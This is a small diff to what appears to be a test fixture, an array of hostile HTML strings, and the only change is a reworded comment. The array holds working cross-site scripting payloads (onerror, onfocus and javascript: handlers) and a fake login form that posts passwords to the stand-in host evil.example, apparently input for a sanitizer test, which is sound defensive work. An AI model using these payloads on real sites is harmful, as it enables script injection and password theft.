@@ -72,7 +72,7 @@ export const hostileHtml: readonly string[] = [
   `<svg><image href="x" onerror=${RUN} /></svg>`,
   `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
   `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
-  // forms that ask for passwords
+  // forms that request passwords
   '<form action="https://evil.example/" method=post><input name=password type=password><button>Log in</button></form>',
   `<input autofocus onfocus=${RUN}>`,
   `<button formaction="javascript:${RUN}">x</button>`,
